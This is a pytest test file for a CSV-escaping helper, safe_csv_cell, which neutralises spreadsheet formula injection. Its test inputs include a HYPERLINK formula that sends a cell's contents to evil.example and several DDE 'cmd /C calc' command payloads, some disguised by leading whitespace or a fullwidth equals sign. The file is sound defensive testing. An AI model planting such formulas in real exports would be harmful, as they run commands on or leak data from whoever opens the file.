"""CSV cells that no spreadsheet runs as a formula."""

from __future__ import annotations

import csv
from pathlib import Path

import pytest

from civicspace.privacy import safe_csv_cell


@pytest.mark.parametrize(
    "value",
    [
        '=HYPERLINK("http://evil.example/?x="&A1,"click")',
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "+1+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
        "   =1+1",
        "\u00a0@SUM(A1)",
        "＝1+1",
    ],
)
def test_formulas_are_neutralised(value: str) -> None:
    cell = safe_csv_cell(value)
    assert isinstance(cell, str) and cell.startswith("'") and cell[1:] == value


@pytest.mark.parametrize(
    "value", ["Kenya", "Arrests in Nairobi", "", "a=b", "50%", "-", "-5", "+3.2"]
)
def test_plain_text_and_numbers_pass(value: str) -> None:
    assert safe_csv_cell(value) == value


@pytest.mark.parametrize("value", [None, 3, -4, 2.5, True])
def test_non_text_values_pass_unchanged(value: object) -> None:
    assert safe_csv_cell(value) is value


def test_a_written_csv_reads_back_with_no_formula_cell(tmp_path: Path) -> None:
    rows = [["title", "notes"], ["=cmd|'/C calc'!A0", "@SUM(A1:A9)"], ["Plain", "-12"]]
    path = tmp_path / "export.csv"
    with path.open("w", newline="", encoding="utf-8") as handle:
        csv.writer(handle).writerows([[safe_csv_cell(c) for c in row] for row in rows])
    with path.open(newline="", encoding="utf-8") as handle:
        cells = [c for row in csv.reader(handle) for c in row]
    assert not any(c.lstrip(" \u00a0").startswith(("=", "+", "@", "\t", "\r")) for c in cells)
    assert "'=cmd|'/C calc'!A0" in cells and "-12" in cells
